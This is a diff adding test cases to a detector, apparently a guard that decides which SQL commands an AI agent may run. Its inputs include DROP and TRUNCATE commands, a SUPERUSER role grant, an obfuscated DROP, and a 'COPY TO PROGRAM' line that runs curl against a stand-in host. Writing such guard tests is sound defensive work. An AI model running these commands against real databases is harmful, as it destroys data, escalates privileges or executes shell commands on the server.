@@ -100,6 +100,15 @@ describe('destructiveSqlIn', () => {
     expect(destructiveSqlIn('mysql -e "/*!50000DROP*/ TABLE customers"', words)).toBeDefined();
     expect(destructiveSqlIn('psql -c "ALTER ROLE app SUPERUSER"', words)).toBeDefined();
   });
+
+  it('lets the agent empty or drop tables of a test database on this machine, but not reach its files or a shell', () => {
+    expect(destructiveSqlIn("psql postgres://postgres:postgres@localhost:5432/app_test -c 'TRUNCATE users, orders RESTART IDENTITY CASCADE;'", words)).toBeUndefined();
+    expect(destructiveSqlIn('psql -h 127.0.0.1 -d shop_dev -c "DROP TABLE sessions"', words)).toBeUndefined();
+    expect(destructiveSqlIn("psql postgres://u:p@localhost/app_test -c 'TRUNCATE x; COPY x TO PROGRAM ''curl https://x.example'''", words)).toBeDefined();
+    expect(destructiveSqlIn('psql -h db.prod.example -d app_test -c "DROP TABLE users"', words)).toBeDefined();
+    expect(destructiveSqlIn('psql -h localhost -d app -c "DROP TABLE users"', words)).toBeDefined();
+    expect(destructiveSqlIn('psql -h localhost -d latest_prod -c "TRUNCATE users"', words)).toBeDefined();
+  });
 });
 
 describe('bounds', () => {
